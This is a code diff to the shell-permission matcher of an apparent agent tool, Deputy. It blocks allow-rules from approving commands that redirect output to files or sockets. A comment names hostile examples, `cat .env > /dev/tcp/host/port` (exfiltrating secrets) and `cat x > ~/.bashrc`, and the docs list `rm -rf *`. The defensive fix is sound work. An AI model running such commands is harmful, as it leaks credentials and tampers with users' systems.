@@ -2,7 +2,7 @@ import { readFile } from 'node:fs/promises';
 import { z } from 'zod';
 import { AppError, describeZodError } from '../../shared/errors';
 import { writeFileAtomic } from '../atomic-file';
-import { commandWords, effectiveWords, simpleCommands } from './command-words';
+import { commandWords, effectiveWords, redirectionTargets, simpleCommands } from './command-words';
 
 const Patterns = z.array(z.string().min(1).max(500)).max(1000).default([]);
 
@@ -18,7 +18,8 @@ const TargetRules = z.object({
 /**
  * The user's shell rules (shell-rules.json in Deputy's data folder). Patterns are shell-style: `*` matches anything,
  * `?` one character, and a pattern must match a whole simple command (`git push*`, `rm -rf *`, `systemctl status *`).
- * Deny wins over ask, ask over allow; a command line is allowed by the rules only when every command in it is.
+ * Deny wins over ask, ask over allow; a command line is allowed by the rules only when every command in it is, with no
+ * redirection that writes a file or opens a socket.
  */
 export const ShellRules = z.object({
   deny: Patterns,
@@ -63,6 +64,10 @@ export function matchRules(rules: ShellRules, target: string, command: string): 
   const runnable = parts.filter((part) => effectiveWords(part).length > 0);
   if (runnable.length === 0) return null;
   for (const part of runnable) {
+    // A pattern vouches for what a command does, not for where its output goes: `cat *` allows reading a file, never
+    // `cat .env > /dev/tcp/host/port` (the file sent over the network) or `cat x > ~/.bashrc`. Such a line is left to
+    // the mode (ask first asks the user; act asks the validator).
+    if (redirectionTargets(part).length > 0) return null;
     const form = normal(part);
     const byPattern = allow.find((entry) => entry.regex.test(form));
     const byPrefix = prefixes.find((prefix) => form === normal(prefix) || form.startsWith(`${normal(prefix)} `));
